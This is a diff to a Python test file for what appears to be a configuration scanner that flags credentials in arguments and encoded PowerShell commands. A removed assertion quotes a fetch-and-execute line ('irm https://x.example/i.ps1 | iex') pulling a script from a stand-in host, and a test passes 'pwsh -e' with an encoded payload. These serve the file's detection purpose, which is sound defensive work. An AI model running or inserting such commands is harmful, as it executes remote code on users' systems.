@@ -139,10 +139,10 @@ def test_a_credential_behind_the_name_of_an_identifier_is_one_all_the_same() -> 
     assert "AC-301" in rules(server(command="x", args=["--thing", HEX]))
 
 
-def test_an_encoded_script_is_graver_and_shown_as_it_runs() -> None:
+def test_an_encoded_script_is_graver_and_the_programs_that_run_are_shown() -> None:
     (finding,) = (each for each in server(command="pwsh", args=["-e", ENCODED]) if each.rule == "AC-501")
     assert finding.severity is Severity.HIGH
-    assert "irm https://x.example/i.ps1 | iex" in finding.message
+    assert "'irm … iex …'" in finding.message
     assert "AC-501" in rules(server(command="pwsh", args=["-e", "no base64"]))
 
 
